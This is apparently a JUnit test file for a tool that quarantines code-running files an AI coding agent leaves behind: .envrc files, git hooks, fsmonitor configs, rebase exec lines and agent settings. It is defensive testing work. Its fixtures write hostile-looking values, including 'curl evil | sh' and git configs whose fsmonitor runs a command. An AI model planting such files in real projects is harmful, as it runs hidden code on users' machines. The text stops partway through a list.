package dev.agentjail.jail;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.agentjail.jail.SurfaceReview.Change;
import dev.agentjail.jail.SurfaceReview.Finding;
import java.io.IOException;
import java.lang.ProcessBuilder.Redirect;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class SurfaceReviewTest {
    private static final String SESSION = "0123456789abcdef";
    private static final Clock CLOCK = Clock.fixed(Instant.parse("2026-01-02T03:04:05Z"), ZoneOffset.UTC);

    @TempDir
    Path tmp;

    Path project;
    Path home;
    Path quarantine;
    SurfaceReview review = new SurfaceReview(SurfaceReview.Limits.DEFAULTS, CLOCK);

    @BeforeEach
    void layout() throws IOException {
        Path dir = tmp.toRealPath();
        project = Files.createDirectories(dir.resolve("project"));
        home = Files.createDirectories(dir.resolve("home"));
        quarantine = dir.resolve("state/agentjail/quarantine");
        gitDir(project.resolve(".git"));
        Files.createDirectories(project.resolve("src"));
        Files.writeString(project.resolve("src/main.c"), "int main;");
        Files.createDirectories(home.resolve(".claude/projects"));
    }

    /** The directory git init makes, as far as the review looks at it. */
    private static void gitDir(Path git) throws IOException {
        Files.createDirectories(git.resolve("objects/info"));
        Files.createDirectories(git.resolve("objects/pack"));
        Files.createDirectories(git.resolve("refs/heads"));
        Files.createDirectories(git.resolve("hooks"));
        Files.createDirectories(git.resolve("info"));
        Files.writeString(git.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.writeString(git.resolve("config"), "[core]\n\trepositoryformatversion = 0\n");
        Files.writeString(git.resolve("description"), "Unnamed repository\n");
        Files.writeString(git.resolve("info/exclude"), "# git ls-files --others --exclude-from=.git/info/exclude\n");
        Files.writeString(git.resolve("hooks/pre-commit.sample"), "#!/bin/sh\n");
    }

    private SurfaceReview.Snapshot snapshot() {
        return review.snapshot(project, home, List.of(project, home.resolve(".claude"), home.resolve(".codex")));
    }

    private List<Finding> after(SurfaceReview.Snapshot before) {
        return review.afterSession(before, quarantine, SESSION);
    }

    /** A snapshot of the project and every agent directory the rules know, all writable. */
    private SurfaceReview.Snapshot snapshotAllHomes() {
        return review.snapshot(
                project,
                home,
                List.of(
                        project,
                        home.resolve(".claude"),
                        home.resolve(".config"),
                        home.resolve(".cache/opencode"),
                        home.resolve(".local/share/crush"),
                        home.resolve(".gemini"),
                        home.resolve(".aider")));
    }

    /**
     * A directory git takes for a repository (a HEAD, objects and refs) whose config has git run {@code touch marker}
     * as its fsmonitor, with {@code worktree} as the work tree.
     */
    private static void plantRepositoryLayout(Path dir, Path marker, String worktree) throws IOException {
        Files.createDirectories(dir.resolve("objects"));
        Files.createDirectories(dir.resolve("refs/heads"));
        write(dir.resolve("HEAD"), "ref: refs/heads/main\n");
        write(
                dir.resolve("config"),
                "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = " + worktree
                        + "\n\tfsmonitor = \"touch '" + marker + "'; false\"\n");
    }

    /** A directory laid out as a repository, its HEAD holding {@code head}. */
    private static void repositoryLayout(Path dir, String head) throws IOException {
        Files.createDirectories(dir.resolve("objects"));
        Files.createDirectories(dir.resolve("refs/heads"));
        write(dir.resolve("HEAD"), head);
        write(dir.resolve("config"), "[core]\n\trepositoryformatversion = 0\n");
    }

    /** The host's git run in {@code dir} as a user would, with no system or global configuration; its exit code. */
    private int hostGit(Path dir, String... args) throws IOException, InterruptedException {
        List<String> argv = new ArrayList<>(List.of("git", "-C", dir.toString()));
        argv.addAll(List.of(args));
        ProcessBuilder git = new ProcessBuilder(argv).redirectErrorStream(true).redirectOutput(Redirect.DISCARD);
        Map<String, String> env = git.environment();
        env.keySet().removeIf(k -> k.startsWith("GIT_"));
        env.put("GIT_CEILING_DIRECTORIES", tmp.toRealPath().toString());
        env.put("GIT_CONFIG_NOSYSTEM", "1");
        env.put("GIT_CONFIG_GLOBAL", "/dev/null");
        env.put("HOME", home.toString());
        Process p = git.start();
        assertTrue(p.waitFor(60, TimeUnit.SECONDS), "git " + String.join(" ", args) + " did not finish");
        return p.exitValue();
    }

    private static void requireGit() {
        boolean present;
        try {
            Process p = new ProcessBuilder("git", "--version")
                    .redirectErrorStream(true)
                    .redirectOutput(Redirect.DISCARD)
                    .start();
            present = p.waitFor(60, TimeUnit.SECONDS) && p.exitValue() == 0;
        } catch (IOException | InterruptedException e) {
            present = false;
        }
        JailPrerequisites.require(present, "git");
    }

    private static void deleteTree(Path dir) throws IOException {
        try (Stream<Path> paths = Files.walk(dir)) {
            for (Path p : paths.sorted(Comparator.reverseOrder()).toList()) {
                Files.delete(p);
            }
        }
    }

    private static void write(Path file, String content) throws IOException {
        Files.createDirectories(file.getParent());
        Files.writeString(file, content);
    }

    /** Findings as "ROOT-KIND PATH KIND CHANGE", sorted. */
    private static Set<String> summary(List<Finding> findings) {
        return findings.stream()
                .map(f -> f.root().kind() + " " + f.path() + " " + f.kind().code() + " "
                        + f.change().name().toLowerCase(java.util.Locale.ROOT))
                .collect(Collectors.toCollection(TreeSet::new));
    }

    @Test
    void eachNewSurfaceIsQuarantinedAndReportedAndOrdinaryWorkIsNot() throws IOException {
        SurfaceReview.Snapshot before = snapshot();
        assertEquals(List.of(), before.incomplete());

        // What the agent leaves on surfaces.
        gitDir(project.resolve("vendor/lib/.git"));
        Files.writeString(project.resolve("vendor/.git"), "gitdir: /elsewhere\n");
        write(project.resolve(".envrc"), "curl evil | sh\n");
        write(project.resolve("src/.envrc"), "export X=1\n");
        write(project.resolve(".vscode/tasks.json"), "{}");
        write(project.resolve(".idea/workspace.xml"), "<x/>");
        write(project.resolve(".cursor/mcp.json"), "{}");
        write(project.resolve(".claude/settings.json"), "{\"hooks\":{}}");
        write(project.resolve(".mcp.json"), "{}");
        write(project.resolve(".gemini/settings.json"), "{}");
        write(project.resolve(".codex/config.toml"), "");
        write(project.resolve(".pi/settings.json"), "{}");
        write(project.resolve("opencode.json"), "{}");
        write(project.resolve(".opencode/plugin/x.ts"), "export {}");
        write(project.resolve(".husky/pre-commit"), "evil\n");
        write(project.resolve("lefthook.yml"), "pre-commit: {}\n");
        write(project.resolve(".pre-commit-config.yaml"), "repos: []\n");
        write(project.resolve("src/.gitattributes"), "*.c filter=evil\n");
        write(project.resolve(".gitmodules"), "[submodule \"x\"]\n");
        write(project.resolve(".git/commondir"), "/elsewhere/.git\n");
        write(project.resolve(".git/info/attributes"), "* filter=evil\n");
        write(project.resolve(".git/objects/info/alternates"), "/elsewhere/objects\n");
        write(project.resolve(".git/worktrees/w/gitdir"), "/elsewhere/.git\n");
        write(project.resolve(".git/unknown"), "?");
        write(project.resolve(".git/rebase-merge/git-rebase-todo"), "pick 1234 x\nexec make evil\n");
        write(home.resolve(".claude/settings.json"), "{\"hooks\":{}}");
        write(home.resolve(".claude/plugins/p/index.js"), "evil()");
        write(home.resolve(".codex/config.toml"), "notify = [\"evil\"]\n");

        // What ordinary work leaves: not surfaces.
        write(project.resolve(".git/index"), "DIRC");
        write(project.resolve(".git/ORIG_HEAD"), "1234\n");
        write(project.resolve(".git/refs/heads/topic"), "1234\n");
        write(project.resolve(".git/objects/ab/cdef"), "blob");
        write(project.resolve(".git/logs/HEAD"), "log\n");
        write(project.resolve(".git/index.lock"), "");
        write(project.resolve(".git/rebase-merge/done"), "pick 1\n");
        write(project.resolve("src/util.c"), "int util;");
        write(project.resolve("docs/.gitattributes"), "*.md text eol=lf\n");
        write(home.resolve(".claude/projects/session.jsonl"), "{}");
        write(home.resolve(".claude/history.jsonl"), "{}");

        List<Finding> findings = after(before);

        assertEquals(
                new TreeSet<>(List.of(
                        "home/.claude plugins home-agent-settings new",
                        "home/.claude settings.json home-agent-settings new",
                        "home/.codex config.toml home-agent-settings new",
                        "project .claude agent-settings new",
                        "project .codex agent-settings new",
                        "project .cursor editor-settings new",
                        "project .envrc envrc new",
                        "project .gemini agent-settings new",
                        "project .git/commondir git-metadata new",
                        "project .git/info/attributes git-metadata new",
                        "project .git/objects/info/alternates git-metadata new",
                        "project .git/rebase-merge/git-rebase-todo rebase-exec new",
                        "project .git/unknown git-metadata new",
                        "project .git/worktrees git-metadata new",
                        "project .gitmodules gitmodules new",
                        "project .husky hook-manager new",
                        "project .idea editor-settings new",
                        "project .mcp.json agent-settings new",
                        "project .opencode agent-settings new",
                        "project .pi agent-settings new",
                        "project .pre-commit-config.yaml hook-manager new",
                        "project .vscode editor-settings new",
                        "project lefthook.yml hook-manager new",
                        "project opencode.json agent-settings new",
                        "project src/.envrc envrc new",
                        "project src/.gitattributes gitattributes-driver new",
                        "project vendor/.git nested-git new",
                        "project vendor/lib/.git nested-git new")),
                summary(findings));

        Path sessionDir = quarantine.resolve(SESSION);
        for (Finding f : findings) {
            Path original = f.root().dir().resolve(f.path());
            assertFalse(Files.exists(original, LinkOption.NOFOLLOW_LINKS), original.toString());
            Path to = f.quarantinedTo().orElseThrow();
            assertEquals(sessionDir.resolve(f.root().kind()).resolve(f.path()), to);
            assertTrue(Files.exists(to, LinkOption.NOFOLLOW_LINKS), to.toString());
            assertTrue(f.describe().contains("agentjail review --restore " + SESSION + "/"), f.describe());
        }
        assertEquals("curl evil | sh\n", Files.readString(sessionDir.resolve("project/.envrc")));
        assertEquals("evil()", Files.readString(sessionDir.resolve("home/.claude/plugins/p/index.js")));
        // Ordinary work stays where it was.
        for (String kept : List.of(
                ".git/index",
                ".git/refs/heads/topic",
                ".git/objects/ab/cdef",
                ".git/rebase-merge/done",
                "docs/.gitattributes",
                "src/util.c")) {
            assertTrue(Files.exists(project.resolve(kept)), kept);
        }
        assertTrue(Files.exists(home.resolve(".claude/history.jsonl")));

        List<Quarantine.Item> items = new Quarantine(quarantine, CLOCK).items(SESSION);
        assertEquals(findings.size(), items.size());
        Quarantine.Item envrc = items.stream()
                .filter(i -> i.item().equals(Path.of("project/.envrc")))
                .findFirst()
                .orElseThrow();
        assertEquals(project.resolve(".envrc"), envrc.original());
        assertEquals(project, envrc.project());
        assertEquals(SurfaceKind.ENVRC, envrc.kind());
        assertEquals(Change.NEW, envrc.change());
        assertEquals(ProjectFiles.Type.FILE, envrc.type());
        assertEquals(
                Optional.of(HexFormat.of()
                        .formatHex(Quarantine.sha256().digest("curl evil | sh\n".getBytes(StandardCharsets.UTF_8)))),
                envrc.sha256());
        assertEquals(Instant.parse("2026-01-02T03:04:05Z"), envrc.time());
    }

    @Test
    void surfacesThatDidNotChangeAreNoFinding() throws IOException {
        gitDir(project.resolve("vendor/lib/.git"));
        write(project.resolve(".envrc"), "export A=1\n");
        write(project.resolve(".vscode/settings.json"), "{}");
        write(project.resolve(".claude/settings.local.json"), "{}");
        write(project.resolve("src/.gitattributes"), "*.c diff=cpp\n");
        write(project.resolve(".git/rebase-merge/git-rebase-todo"), "exec make\n");
        write(home.resolve(".claude/settings.json"), "{}");
        Files.createSymbolicLink(project.resolve(".mcp.json"), Path.of("src/main.c"));
        SurfaceReview.Snapshot before = snapshot();

        // Reading, and git's ordinary writes in the nested repository.
        write(project.resolve("vendor/lib/.git/index"), "DIRC");
        write(project.resolve("vendor/lib/.git/refs/heads/x"), "1\n");
        assertEquals(List.of(), after(before));
        assertFalse(Files.exists(quarantine.resolve(SESSION)));
    }

    @Test
    void aChangedSurfaceIsQuarantinedToo() throws IOException {
        write(project.resolve(".envrc"), "export A=1\n");
        write(project.resolve("vendor/lib/.git/config"), "[core]\n");
        gitDir(project.resolve("vendor/lib/.git"));
        write(project.resolve(".husky/pre-commit"), "lint\n");
        SurfaceReview.Snapshot before = snapshot();

        write(project.resolve(".envrc"), "export A=2\n");
        write(project.resolve("vendor/lib/.git/config"), "[core]\n\tfsmonitor = evil\n");
        // Only the mode changes: an executable hook runs where a plain file did not.
        Files.setPosixFilePermissions(
                project.resolve(".husky/pre-commit"), PosixFilePermissions.fromString("rwxr-xr-x"));

        List<Finding> findings = after(before);

        assertEquals(
                Set.of(
                        "project .envrc envrc changed",
                        "project .husky/pre-commit hook-manager changed",
                        "project vendor/lib/.git/config nested-git changed"),
                summary(findings));
        assertEquals("export A=2\n", Files.readString(quarantine.resolve(SESSION + "/project/.envrc")));
        assertFalse(Files.exists(project.resolve(".envrc")));
        assertTrue(Files.isDirectory(project.resolve(".husky")));
    }

    @Test
    void aGitattributesCountsOnlyWhenItNamesADriver() throws IOException {
        write(project.resolve("a/.gitattributes"), "*.txt text\n");
        SurfaceReview.Snapshot before = snapshot();
        write(project.resolve("b/.gitattributes"), "*.bin binary\n*.txt eol=lf\n");
        write(project.resolve("c/.gitattributes"), "*.png diff=exif\n");
        write(project.resolve("d/.gitattributes"), "* merge=evil\n");
        write(project.resolve("a/.gitattributes"), "*.txt text filter=evil\n");
        assertEquals(
                Set.of(
                        "project a/.gitattributes gitattributes-driver changed",
                        "project c/.gitattributes gitattributes-driver new",
                        "project d/.gitattributes gitattributes-driver new"),
                summary(after(before)));
        assertTrue(Files.exists(project.resolve("b/.gitattributes")));
    }

    @Test
    void aRebaseTodoCountsOnlyWithExecLines() throws IOException {
        SurfaceReview.Snapshot before = snapshot();
        write(project.resolve(".git/rebase-merge/git-rebase-todo"), "pick 1 a\n# exec is only a comment here\n");
        write(project.resolve(".git/sequencer/todo"), "pick 2 b\n  x ./evil\n");
        assertEquals(Set.of("project .git/sequencer/todo rebase-exec new"), summary(after(before)));
        assertTrue(Files.exists(project.resolve(".git/rebase-merge/git-rebase-todo")));
    }

    @Test
    void aLinkIsQuarantinedAsALinkAndALinkedDirectoryIsNotWalked() throws IOException {
        Path outside = Files.createDirectories(tmp.toRealPath().resolve("outside"));
        write(outside.resolve(".envrc"), "outside\n");
        write(outside.resolve("tasks.json"), "{}");
        Files.createDirectories(project.resolve("sub"));
        SurfaceReview.Snapshot before = snapshot();

        // sub becomes a link to a directory holding an .envrc; .vscode a link to another.
        Files.delete(project.resolve("sub"));
        Files.createSymbolicLink(project.resolve("sub"), outside);
        Files.createSymbolicLink(project.resolve(".vscode"), outside);

        List<Finding> findings = after(before);

        assertEquals(Set.of("project .vscode editor-settings new"), summary(findings));
        assertTrue(Files.isSymbolicLink(quarantine.resolve(SESSION + "/project/.vscode")));
        assertEquals("outside\n", Files.readString(outside.resolve(".envrc")));
        assertTrue(Files.exists(outside.resolve("tasks.json")));
    }

    @Test
    void aDirectorySwappedForALinkDuringTheReviewMovesNothingOutside() throws IOException {
        Path outside = Files.createDirectories(tmp.toRealPath().resolve("outside"));
        write(outside.resolve(".envrc"), "outside\n");
        Files.createDirectories(project.resolve("sub"));
        SurfaceReview.Snapshot before = snapshot();
        write(project.resolve("sub/.envrc"), "inside\n");

        // The moment the first item is quarantined (the review has seen sub/.envrc), sub becomes a link outside.
        Clock swapping = new Clock() {
            boolean swapped;

            @Override
            public Instant instant() {
                if (!swapped) {
                    swapped = true;
                    try {
                        Files.move(project.resolve("sub"), project.resolve("sub.moved"));
                        Files.createSymbolicLink(project.resolve("sub"), outside);
                    } catch (IOException e) {
                        throw new IllegalStateException(e);
                    }
                }
                return CLOCK.instant();
            }

            @Override
            public long millis() {
                return CLOCK.millis(); // The walks' deadline: no swap there.
            }

            @Override
            public java.time.ZoneId getZone() {
                return ZoneOffset.UTC;
            }

            @Override
            public Clock withZone(java.time.ZoneId zone) {
                return this;
            }
        };
        List<Finding> findings =
                new SurfaceReview(SurfaceReview.Limits.DEFAULTS, swapping).afterSession(before, quarantine, SESSION);

        assertEquals(1, findings.size(), findings.toString());
        Finding f = findings.get(0);
        assertEquals(Path.of("sub/.envrc"), f.path());
        assertEquals(Optional.empty(), f.quarantinedTo());
        assertTrue(f.detail().contains(project.resolve("sub") + " is a symbolic link"), f.detail());
        assertTrue(f.describe().contains("NOT quarantined"), f.describe());
        assertEquals("outside\n", Files.readString(outside.resolve(".envrc")));
        assertEquals("inside\n", Files.readString(project.resolve("sub.moved/.envrc")));
    }

    @Test
    void aBoundReachedIsSweptByChangeTimeSoWhatTheAgentLeftPastItIsQuarantinedAndTheUsersStays() throws IOException {
        Path deep = project.resolve("deep");
        for (int i = 0; i < 30; i++) {
            write(deep.resolve("f" + i), "x");
        }
        write(deep.resolve("sub/.envrc"), "the user's\n");
        SurfaceReview small =
                new SurfaceReview(new SurfaceReview.Limits(8, 25, 1 << 20, Duration.ofSeconds(10)), CLOCK);
        SurfaceReview.Snapshot before = small.snapshot(project, home, List.of(project));
        assertEquals(1, before.incomplete().size(), before.incomplete().toString());
        assertTrue(
                before.incomplete().get(0).contains("entry limit of 25"),
                before.incomplete().toString());

        write(project.resolve(".envrc"), "new\n");
        write(deep.resolve(".envrc"), "beyond the bound\n");
        List<Finding> findings = small.afterSession(before, quarantine, SESSION);

        assertEquals(Set.of("project .envrc envrc new", "project deep/.envrc envrc new"), summary(findings));
        assertFalse(Files.exists(deep.resolve(".envrc")));
        assertTrue(Files.exists(deep.resolve("sub/.envrc")), "untouched since the snapshot: the user's");
        assertEquals(List.of(), new Quarantine(quarantine, CLOCK).pending());
    }

    @Test
    void aSweepThatReachesItsBoundTooLeavesTheReviewPendingUntilFinished() throws IOException {
        Path deep = project.resolve("deep");
        for (int i = 0; i < 30; i++) {
            write(deep.resolve("f" + i), "x");
        }
        SurfaceReview.Limits tiny = new SurfaceReview.Limits(8, 25, 1 << 20, Duration.ofSeconds(10));
        SurfaceReview small = new SurfaceReview(tiny, tiny, CLOCK);
        SurfaceReview.Snapshot before = small.snapshot(project, home, List.of(project));
        write(deep.resolve("zz/.envrc"), "beyond both bounds\n");

        List<Finding> findings = small.afterSession(before, quarantine, SESSION);

        assertTrue(
                findings.stream()
                        .anyMatch(f -> f.change() == Change.INCOMPLETE
                                && f.describe().contains("run `agentjail review --finish`")),
                findings.toString());
        assertTrue(Files.exists(deep.resolve("zz/.envrc")), "past both bounds: not seen yet");
        List<Quarantine.Pending> pending = new Quarantine(quarantine, CLOCK).pending();
        assertEquals(1, pending.size(), pending.toString());
        assertEquals(project, pending.get(0).project());
        assertEquals(before.taken(), pending.get(0).since());

        List<Finding> finished = new SurfaceReview(SurfaceReview.Limits.FINISH, CLOCK)
                .sweep(project, pending.get(0).roots(), pending.get(0).since(), quarantine, SESSION);
        assertEquals(Set.of("project deep/zz/.envrc envrc new"), summary(finished));
        assertFalse(Files.exists(deep.resolve("zz/.envrc")));
        assertEquals(List.of(), new Quarantine(quarantine, CLOCK).pending(), "a complete sweep clears it");
    }

    @Test
    void aTreeDeeperThanTheBoundIsReportedNotSkipped() throws IOException {
        SurfaceReview shallow =
                new SurfaceReview(new SurfaceReview.Limits(4, 1000, 1 << 20, Duration.ofSeconds(10)), CLOCK);
        SurfaceReview.Snapshot before = shallow.snapshot(project, home, List.of(project));
        write(project.resolve("a/b/c/d/e/.envrc"), "deep\n");
        write(project.resolve("z/.envrc"), "shallow\n");
        SurfaceReview.Limits tiny = new SurfaceReview.Limits(4, 1000, 1 << 20, Duration.ofSeconds(10));
        List<Finding> findings = new SurfaceReview(tiny, tiny, CLOCK).afterSession(before, quarantine, SESSION);
        assertTrue(summary(findings).contains("project a/b/c/d review-incomplete incomplete"), findings.toString());
        assertTrue(summary(findings).contains("project z/.envrc envrc new"), findings.toString());
        assertTrue(findings.stream().anyMatch(f -> f.describe().contains("depth limit of 4")), findings.toString());
        // The sweep goes deeper by default.
        write(project.resolve("a/b/c/d/e/f/.envrc"), "deeper\n");
        assertTrue(summary(shallow.afterSession(before, quarantine, "fedcba9876543210"))
                .contains("project a/b/c/d/e/.envrc envrc new"));
    }

    @Test
    void aHomeDirectoryMissingBeforeIsReviewedWhenItAppears() throws IOException {
        SurfaceReview.Snapshot before = snapshot();
        assertEquals(
                List.of("project", "home/.claude", "home/.codex"),
                before.roots().stream().map(SurfaceReview.Root::kind).toList());
        write(home.resolve(".codex/config.toml"), "x");
        write(home.resolve(".codex/sessions/s.jsonl"), "x");
        assertEquals(Set.of("home/.codex config.toml home-agent-settings new"), summary(after(before)));
    }

    @Test
    void onlyWritableAgentDirectoriesAreRoots() {
        List<SurfaceReview.Root> roots = SurfaceReview.roots(
                project, home, List.of(project, home.resolve(".config"), home.resolve(".pi/agent")));
        assertEquals(
                List.of(
                        "project",
                        "home/.pi/agent",
                        "home/.config/opencode",
                        "home/.config/crush",
                        "home/.config/goose"),
                roots.stream().map(SurfaceReview.Root::kind).toList());
    }

    @Test
    void aDirectoryLaidOutAsARepositoryLosesItsHeadAndConfigSoThatHostGitRunsNothingThere() throws Exception {
        requireGit();
        write(project.resolve("docs/index.md"), "# Docs\n");
        SurfaceReview.Snapshot before = snapshot();
        Path docs = project.resolve("docs");
        Path marker = tmp.toRealPath().resolve("marker");
        plantRepositoryLayout(docs, marker, "..");
        // The layout works: git status in docs runs its fsmonitor (this test's marker), so without the review the
        // last assertion below fails.
        assertEquals(0, hostGit(docs, "status"));
        assertTrue(Files.exists(marker), "the planted layout does not run its fsmonitor: the test proves nothing");
        Files.delete(marker);

        List<Finding> findings = after(before);

        // The project's own repository answers now.
        assertEquals(0, hostGit(docs, "status"));
        assertEquals(0, hostGit(docs.resolve("refs"), "status"));
        assertFalse(Files.exists(marker), "host git ran the planted fsmonitor after the review");
        assertEquals(
                Set.of("project docs/HEAD bare-repository new", "project docs/config bare-repository new"),
                summary(findings));
        assertTrue(
                findings.get(0).describe().contains("git no longer takes " + docs + " for a repository"),
                findings.get(0).describe());
        // Only HEAD and config moved: the rest of the directory stays.
        assertTrue(Files.exists(docs.resolve("index.md")));
        assertTrue(Files.isDirectory(docs.resolve("refs/heads")));
    }

    @Test
    void aProjectWithoutGitLaidOutAsARepositoryAtItsTopLosesItsHeadAndConfig() throws Exception {
        requireGit();
        deleteTree(project.resolve(".git"));
        SurfaceReview.Snapshot before = snapshot();
        Path marker = tmp.toRealPath().resolve("marker");
        plantRepositoryLayout(project, marker, ".");
        assertEquals(0, hostGit(project.resolve("src"), "status"));
        assertTrue(Files.exists(marker), "the planted layout does not run its fsmonitor: the test proves nothing");
        Files.delete(marker);

        List<Finding> findings = after(before);

        assertNotEquals(0, hostGit(project.resolve("src"), "status"));
        assertNotEquals(0, hostGit(project, "status"));
        assertFalse(Files.exists(marker), "host git ran the planted fsmonitor after the review");
        assertEquals(
                Set.of("project HEAD bare-repository new", "project config bare-repository new"), summary(findings));
        assertTrue(Files.exists(project.resolve("src/main.c")));
    }

    @Test
    void onlyWhatGitTakesForARepositoryCounts() throws IOException {
        SurfaceReview.Snapshot before = snapshot();
        String hex40 = "0123456789abcdef0123456789ABCDEF01234567";
        // What git takes for a repository (setup.c: is_git_directory, validate_headref).
        repositoryLayout(project.resolve("symref"), "ref: refs/heads/main\n");
        repositoryLayout(project.resolve("tab"), "ref:\trefs/heads/main");
        repositoryLayout(project.resolve("detached"), hex40 + "\n");
        repositoryLayout(project.resolve("sha256"), hex40 + "0123456789abcdef0123456789ab trailing\n");
        repositoryLayout(project.resolve("execobjects"), "ref: refs/heads/main\n");
        deleteTree(project.resolve("execobjects/objects"));
        write(project.resolve("execobjects/objects"), "");
        Files.setPosixFilePermissions(
                project.resolve("execobjects/objects"), PosixFilePermissions.fromString("rwxr--r--"));
        write(project.resolve("common/HEAD"), "ref: refs/heads/main\n");
        write(project.resolve("common/commondir"), "../symref\n");
        repositoryLayout(project.resolve("linked"), "");
        Files.delete(project.resolve("linked/HEAD"));
        Files.createSymbolicLink(project.resolve("linked/HEAD"), Path.of("refs/heads/main"));
        repositoryLayout(project.resolve("a/b/deep"), "ref: refs/heads/main\n");
        // What git does not: each lacks one of the signatures.
        repositoryLayout(project.resolve("text"), "hello\n");
        repositoryLayout(project.resolve("shorthex"), hex40.substring(1) + "\n");
        repositoryLayout(project.resolve("notrefs"), "ref: heads/main\n");
        repositoryLayout(project.resolve("spaced"), " ref: refs/heads/main\n");
        repositoryLayout(project.resolve("norefs"), "ref: refs/heads/main\n");
        deleteTree(project.resolve("norefs/refs"));
        repositoryLayout(project.resolve("plainobjects"), "ref: refs/heads/main\n");
        deleteTree(project.resolve("plainobjects/objects"));
        write(project.resolve("plainobjects/objects"), "");
        repositoryLayout(project.resolve("headdir"), "");
        Files.delete(project.resolve("headdir/HEAD"));
        Files.createDirectories(project.resolve("headdir/HEAD"));
        // Inside a git directory or a surface directory the rules of those apply.
        repositoryLayout(project.resolve(".git/refs/x"), "ref: refs/heads/main\n");

        Set<String> expected = new TreeSet<>();
        for (String dir : List.of("symref", "tab", "detached", "sha256", "execobjects", "linked", "a/b/deep")) {
            expected.add("project " + dir + "/HEAD bare-repository new");
            expected.add("project " + dir + "/config bare-repository new");
        }
        expected.add("project common/HEAD bare-repository new");
        assertEquals(expected, summary(after(before)));
        assertTrue(Files.isSymbolicLink(quarantine.resolve(SESSION + "/project/linked/HEAD")));
        for (String kept : List.of("text", "shorthex", "notrefs", "spaced", "norefs", "plainobjects", ".git/refs/x")) {
            assertTrue(Files.exists(project.resolve(kept + "/config")), kept);
        }
    }

    @Test
    void aLayoutThatWasThereIsJudgedLikeAGitDirectory() throws IOException {
        Path fixture = project.resolve("test/fixture.git");
        repositoryLayout(fixture, "ref: refs/heads/main\n");
        write(fixture.resolve("hooks/update.sample"), "#!/bin/sh\n");
        write(fixture.resolve("README"), "the user's own file\n");
        SurfaceReview.Snapshot before = snapshot();

        // What ordinary git work leaves there, and a file git does not read: no finding.
        write(fixture.resolve("refs/heads/topic"), "1234\n");
        write(fixture.resolve("objects/ab/cdef"), "blob");
        write(fixture.resolve("packed-refs"), "# pack-refs\n");
        write(fixture.resolve("FETCH_HEAD"), "1234\n");
        write(fixture.resolve("notes.txt"), "the user's\n");
        assertEquals(Set.of(), summary(after(before)));

        // A hook and alternates added to it are, like in a git directory.
        before = snapshot();
        write(fixture.resolve("hooks/post-update"), "evil\n");
        write(fixture.resolve("objects/info/alternates"), "/elsewhere\n");
        assertEquals(
                Set.of(
                        "project test/fixture.git/hooks/post-update bare-repository new",
                        "project test/fixture.git/objects/info/alternates bare-repository new"),
                summary(review.afterSession(before, quarantine, "s2")));

        // A changed config takes the unchanged HEAD along.
        before = snapshot();
        write(fixture.resolve("config"), "[core]\n\tfsmonitor = evil\n");
        List<Finding> findings = review.afterSession(before, quarantine, "s3");
        assertEquals(
                Set.of(
                        "project test/fixture.git/HEAD bare-repository changed",
                        "project test/fixture.git/config bare-repository changed"),
                summary(findings));
        Finding head = findings.stream()
                .filter(f -> f.path().endsWith("HEAD"))
                .findFirst()
                .orElseThrow();
        assertTrue(head.detail().startsWith("unchanged, moved with"), head.detail());
        assertTrue(Files.exists(fixture.resolve("README")));
        assertTrue(Files.exists(fixture.resolve("notes.txt")));
    }

    @Test
    void anAgentDirectoryLaidOutAsARepositoryLosesItsHeadAndConfig() throws IOException {
        SurfaceReview.Snapshot before = snapshot();
        repositoryLayout(home.resolve(".claude"), "ref: refs/heads/main\n");
        assertEquals(
                Set.of("home/.claude HEAD bare-repository new", "home/.claude config bare-repository new"),
                summary(after(before)));
        assertTrue(Files.isDirectory(home.resolve(".claude/objects")));
    }

    /** A surface written at {@code write}, reported at {@code reported}, of {@code kind}, its reason naming {@code why}. */
    private record Named(String write, String reported, SurfaceKind kind, String why) {}

    private static final List<Named> PROJECT_SURFACES = List.of(
            new Named(".zed/tasks.json", ".zed", SurfaceKind.EDITOR_SETTINGS, "Zed"),
            new Named("sub/.zed/settings.json", "sub/.zed", SurfaceKind.EDITOR_SETTINGS, "language servers"),
            new Named(".crush.json", ".crush.json", SurfaceKind.AGENT_SETTINGS, "Crush"),
            new Named("sub/crush.json", "sub/crush.json", SurfaceKind.AGENT_SETTINGS, "MCP"),
            new Named(".crushrc", ".crushrc", SurfaceKind.AGENT_SETTINGS, "Bash"),
            new Named("crushrc", "crushrc", SurfaceKind.AGENT_SETTINGS, "Bash"),
            new Named(".aider.conf.yml", ".aider.conf.yml", SurfaceKind.AGENT_SETTINGS, "lint-cmd"),
            new Named(".yarnrc.yml", ".yarnrc.yml", SurfaceKind.PACKAGE_MANAGER_CONFIG, "yarnPath"),
            new Named(".yarnrc", ".yarnrc", SurfaceKind.PACKAGE_MANAGER_CONFIG, "yarn-path"),
            new Named("web/.npmrc", "web/.npmrc", SurfaceKind.PACKAGE_MANAGER_CONFIG, "script-shell"),
            new Named("mise.toml", "mise.toml", SurfaceKind.VERSION_MANAGER, "hooks"),
            new Named(".mise.toml", ".mise.toml", SurfaceKind.VERSION_MANAGER, "mise"),
            new Named("mise.local.toml", "mise.local.toml", SurfaceKind.VERSION_MANAGER, "mise"),
            new Named(".mise.staging.toml", ".mise.staging.toml", SurfaceKind.VERSION_MANAGER, "mise"),
            new Named(".mise/config.toml", ".mise", SurfaceKind.VERSION_MANAGER, "mise"),
            new Named("mise/config.toml", "mise/config.toml", SurfaceKind.VERSION_MANAGER, "mise"),
            new Named(".config/mise/conf.d/a.toml", ".config/mise", SurfaceKind.VERSION_MANAGER, "mise"),
            new Named(".config/mise.toml", ".config/mise.toml", SurfaceKind.VERSION_MANAGER, "mise"),
            new Named(".rtx.toml", ".rtx.toml", SurfaceKind.VERSION_MANAGER, "mise"),
            new Named(".tool-versions", ".tool-versions", SurfaceKind.VERSION_MANAGER, "path:"),
